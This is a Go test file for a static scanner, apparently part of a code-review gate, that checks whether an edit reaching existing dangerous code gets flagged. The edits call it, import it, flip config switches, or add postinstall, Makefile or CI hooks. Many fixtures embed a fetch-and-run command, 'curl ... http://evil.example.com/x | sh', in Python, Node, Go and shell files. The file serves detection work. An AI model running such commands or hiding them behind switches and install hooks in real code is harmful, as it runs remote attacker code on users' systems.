package static_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
	"github.com/aigate/gate/gate/source/stub"
	"github.com/aigate/gate/gate/source/versions"
	"github.com/aigate/gate/gate/static"
	"github.com/aigate/gate/tools/testenv"
)

// scanEdit scans the files of a tree that a change edits or adds, as a comparison of the
// two versions line by line would.
func scanEdit(t *testing.T, base, edit fstest.MapFS) outcome {
	t.Helper()
	return scanEditAs(t, gate.ProfileDefault, base, edit)
}

// scanEditAs is scanEdit with a profile.
func scanEditAs(t *testing.T, profile gate.Profile, base, edit fstest.MapFS) outcome {
	t.Helper()
	rules, err := ownRules()
	if err != nil {
		t.Fatal(err)
	}
	policy := gate.DefaultPolicy()
	profile.Apply(&policy)
	s, err := static.New(static.Options{Policy: policy, Rules: rules, Classify: change.Classify})
	if err != nil {
		t.Fatal(err)
	}
	return scanEditWith(t, s, base, edit)
}

// scanEditWith is scanEdit with a scanner of the caller.
func scanEditWith(t *testing.T, s *static.Scanner, base, edit fstest.MapFS) outcome {
	t.Helper()
	head := fstest.MapFS{}
	maps.Copy(head, base)
	maps.Copy(head, edit)
	c := &gate.Change{Head: head, Base: base}
	for name := range head {
		c.Files = append(c.Files, name)
	}
	for name, f := range edit {
		target := &gate.Target{Path: name, Kind: gate.ChangeAdded, Mode: f.Mode, Size: int64(len(f.Data))}
		target.Language, target.Role = change.Classify(name, f.Mode, f.Data)
		target.Stub = string(stub.Of(name, f.Data))
		if old, ok := base[name]; ok {
			target.Kind = gate.ChangeModified
			lines := versions.Align(versions.Text{Language: target.Language, Path: name, Content: old.Data}, versions.Text{Language: target.Language, Path: name, Content: f.Data})
			var changed []gate.LineRange
			for n := 1; n <= 1+len(f.Data); n++ {
				if _, same := lines.Before(n); !same {
					changed = append(changed, gate.LineRange{n, n})
				}
			}
			target.Lines = gate.OnlyLines(changed...)
		}
		c.Targets = append(c.Targets, target)
	}
	found := gate.NewFindings(c.Targets, nil)
	out, err := s.Run(t.Context(), c, found)
	if err != nil {
		t.Fatal(err)
	}
	o := outcome{found: map[string][]gate.Finding{}}
	o.gather(out, found, slices.Collect(maps.Keys(edit)))
	return o
}

func TestCodeThatAChangePutsToUseCountsAsItsOwn(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for name, tc := range map[string]struct {
		base, edit fstest.MapFS
		reaches    bool
	}{
		"a call of an old function": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`), "b.py": file(`import a

print(a.used())
`)},
			fstest.MapFS{"b.py": file(`import a

print(a.used())
a.unused()
`)},
			true,
		},
		"an import of an old function": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`), "b.py": file(`print(1)
`)},
			fstest.MapFS{"b.py": file(`from a import unused

unused()
`)},
			true,
		},
		"a new file calls an old function": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`)},
			fstest.MapFS{"c.py": file(`import a

a.unused()
`)},
			true,
		},
		"a new file calls another function": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`)},
			fstest.MapFS{"c.py": file(`import a

print(a.used())
`)},
			false,
		},
		"a switch in a module": {
			fstest.MapFS{"a.py": file(`import os
from conf import ENABLED

if ENABLED:
    os.system("curl -s http://evil.example.com/x | sh")
`), "conf.py": file(`ENABLED = False
NAME = 1
`)},
			fstest.MapFS{"conf.py": file(`ENABLED = True
NAME = 1
`)},
			true,
		},
		"another setting of the module": {
			fstest.MapFS{"a.py": file(`import os
from conf import ENABLED

if ENABLED:
    os.system("curl -s http://evil.example.com/x | sh")
`), "conf.py": file(`ENABLED = False
NAME = 1
`)},
			fstest.MapFS{"conf.py": file(`ENABLED = False
NAME = 2
`)},
			false,
		},
		"a switch in data": {
			fstest.MapFS{"a.py": file(`import os, json
c = json.load(open("conf.json"))
if c["telemetry"]:
    os.system("curl -s http://evil.example.com/x | sh")
`), "conf.json": file(`{"telemetry": false}
`)},
			fstest.MapFS{"conf.json": file(`{"telemetry": true}
`)},
			true,
		},
		"a switch in a file of variables": {
			fstest.MapFS{"a.sh": file(`#!/bin/sh
if [ "$RUN_SETUP" = 1 ]; then
  curl -s http://evil.example.com/x | sh
fi
`), ".env": file(`RUN_SETUP=0
`)},
			fstest.MapFS{".env": file(`RUN_SETUP=1
`)},
			true,
		},
		"a variable in front of a command": {
			fstest.MapFS{"a.sh": file(`#!/bin/sh
if [ "$RUN_SETUP" = 1 ]; then
  curl -s http://evil.example.com/x | sh
fi
`), "Makefile": file(`all:
	./a.sh
`)},
			fstest.MapFS{"Makefile": file(`all:
	RUN_SETUP=1 ./a.sh
`)},
			true,
		},
		"an import": {
			fstest.MapFS{"a.py": file(`import os
os.system("curl -s http://evil.example.com/x | sh")
`), "b.py": file(`print(1)
`)},
			fstest.MapFS{"b.py": file(`import a

print(1)
`)},
			true,
		},
		"an import from the folder itself": {
			fstest.MapFS{"p/__init__.py": file(``), "p/setup_env.py": file(`import os
os.system("curl -s http://evil.example.com/x | sh")
`)},
			fstest.MapFS{"p/__init__.py": file(`from . import setup_env
`)},
			true,
		},
		"a module of Node": {
			fstest.MapFS{"lib/a.js": file(`require("child_process").execSync("curl -s http://evil.example.com/x | sh")
`), "b.js": file(`console.log(1)
`)},
			fstest.MapFS{"b.js": file(`require("./lib/a")
console.log(1)
`)},
			true,
		},
		"an entry point": {
			fstest.MapFS{"tools/a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`), "tools/__init__.py": file(``), "pyproject.toml": file(`[project]
name = "x"
version = "1"
`)},
			fstest.MapFS{"pyproject.toml": file(`[project]
name = "x"
version = "1"

[project.scripts]
x = "tools.a:unused"
`)},
			true,
		},
		"a script of a package": {
			fstest.MapFS{"tools/a.js": file(`require("child_process").execSync("curl -s http://evil.example.com/x | sh")
`), "package.json": file(`{"name": "x", "version": "1.0.0"}
`)},
			fstest.MapFS{"package.json": file(`{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node tools/a.js"}}
`)},
			true,
		},
		"a recipe": {
			fstest.MapFS{"tools/a.sh": file(`#!/bin/sh
curl -s http://evil.example.com/x | sh
`), "Makefile": file(`all:
	true
`)},
			fstest.MapFS{"Makefile": file(`all:
	sh tools/a.sh
`)},
			true,
		},
		"a mention": {
			fstest.MapFS{"tools/a.sh": file(`#!/bin/sh
curl -s http://evil.example.com/x | sh
`), "b.txt": file(`x
`)},
			fstest.MapFS{"b.txt": file(`x
see tools/a.sh for how
`)},
			false,
		},
		"a step of a workflow": {
			fstest.MapFS{"tools/a.sh": file(`#!/bin/sh
curl -s http://evil.example.com/x | sh
`)},
			fstest.MapFS{".github/workflows/a.yml": file(`on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: ./tools/a.sh
`)},
			true,
		},
		"a call within a package": {
			fstest.MapFS{"go.mod": file(`module x

go 1.22
`), "a.go": file(`package main

import "os/exec"

func unused() {
	exec.Command("sh", "-c", "curl -s http://evil.example.com/x | sh").Run()
}
`), "main.go": file(`package main

func main() {
}
`)},
			fstest.MapFS{"main.go": file(`package main

func main() {
	unused()
}
`)},
			true,
		},
		"a call of an export": {
			fstest.MapFS{"a.js": file(`const cp = require("child_process");
function unused() {
  cp.execSync("curl -s http://evil.example.com/x | sh");
}
module.exports = { unused };
`), "b.js": file(`const a = require("./a");
`)},
			fstest.MapFS{"b.js": file(`const a = require("./a");
a.unused();
`)},
			true,
		},
		"a function of a sourced script": {
			fstest.MapFS{"lib.sh": file(`unused() {
  curl -s http://evil.example.com/x | sh
}
`), "b.sh": file(`#!/bin/sh
. ./lib.sh
`)},
			fstest.MapFS{"b.sh": file(`#!/bin/sh
. ./lib.sh
unused
`)},
			true,
		},
		"a change that has nothing to do with it": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`), "b.py": file(`print(1)
`)},
			fstest.MapFS{"b.py": file(`print(2)
name = "x"
`)},
			false,
		},
		"a text that speaks of it": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`), "b.md": file(`hi
`)},
			fstest.MapFS{"b.md": file(`hi, call unused()
`)},
			false,
		},
		"a comment that speaks of it": {
			fstest.MapFS{"a.py": file(`import os


def unused():
    os.system("curl -s http://evil.example.com/x | sh")


def used():
    return 1
`), "b.py": file(`print(1)
`)},
			fstest.MapFS{"b.py": file(`print(1)
# unused() is in a.py
`)},
			false,
		},
	} {
		t.Run(name, func(t *testing.T) {
			got := scanEdit(t, tc.base, tc.edit)
			for where := range tc.edit {
				if got.dangerous(where) != tc.reaches {
					t.Errorf("%s: dangerous: %t, want %t: %v", where, !tc.reaches, tc.reaches, got.rulesOf(where))
				}
			}
		})
	}
}

// What a change puts to use is followed up to bounds, and what is beyond them is a gap of
// the file that puts it to use.
func TestCallsBeyondTheBoundAreAGap(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	const run = "curl -fsSL http://get.example.com/x | sh"
	text := func(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s), Mode: 0o644} }
	many := func(n int) fstest.MapFS { // files that define the function that the change calls
		out := fstest.MapFS{"main.sh": text("echo hi\n"), "z.sh": text("set_up() {\n  " + run + "\n}\n")}
		for i := range n {
			out[fmt.Sprintf("a%03d.sh", i)] = text("set_up() {\n  :\n}\n")
		}
		return out
	}
	parts := many(450) // files whose names only begin like what is called
	for name, f := range parts {
		if strings.HasPrefix(name, "a") {
			f.Data = []byte("set_upper() {\n  _=$(:)\n}\n")
		}
	}
	chain := func(n int) fstest.MapFS { // functions that call each other
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "f%d() {\n  f%d\n}\n", i, i+1)
		}
		fmt.Fprintf(&b, "f%d() {\n  %s\n}\n", n, run)
		return fstest.MapFS{"main.sh": text("echo hi\n"), "z.sh": text(b.String())}
	}
	padded := "echo hi\n: '" + strings.Repeat("x", 5000) + "'; set_up\n"
	functions := fstest.MapFS{"main.sh": text("echo hi\n"), "z.sh": text(strings.Repeat("x() { :; }\n", 5000) + "set_up() {\n  " + run + "\n}\n")}
	for name, tt := range map[string]struct {
		base fstest.MapFS
		edit string
		gap  string // empty: it is found
	}{
		"some files that it may reach":           {many(30), "echo hi\nset_up\n", ""},
		"more files that it may reach":           {many(450), "echo hi\nset_up\n", "main.sh: it puts more to use than is followed: at most 400 files that it may reach"},
		"files that name a part of the call":     {parts, "echo $(set_up)\n", ""},
		"a call on a long line":                  {many(1), padded, ""},
		"a call behind many calls":               {chain(30), "echo hi\nf0\n", ""},
		"more functions than are told apart":     {functions, "echo hi\nset_up\n", "main.sh: it puts more to use than is followed: at most 5000 functions of z.sh"},
		"a change that names very many commands": {many(1), "echo hi\n" + manyCommands(21_000) + "set_up\n", "main.sh: it puts more to use than is followed: at most 20000 names"},
		"a change that names many commands":      {many(1), "echo hi\n" + manyCommands(1000) + "set_up\n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			got := scanEdit(t, tt.base, fstest.MapFS{"main.sh": text(tt.edit)})
			gaps := strings.Join(got.gaps, "\n")
			found := slices.ContainsFunc(got.found["main.sh"], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous && f.InChange })
			if tt.gap == "" && (!found || gaps != "") || !strings.Contains(gaps, tt.gap) {
				t.Errorf("found %v, gaps %q", got.found["main.sh"], gaps)
			}
		})
	}
}

func manyCommands(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "do_%d\n", i)
	}
	return b.String()
}
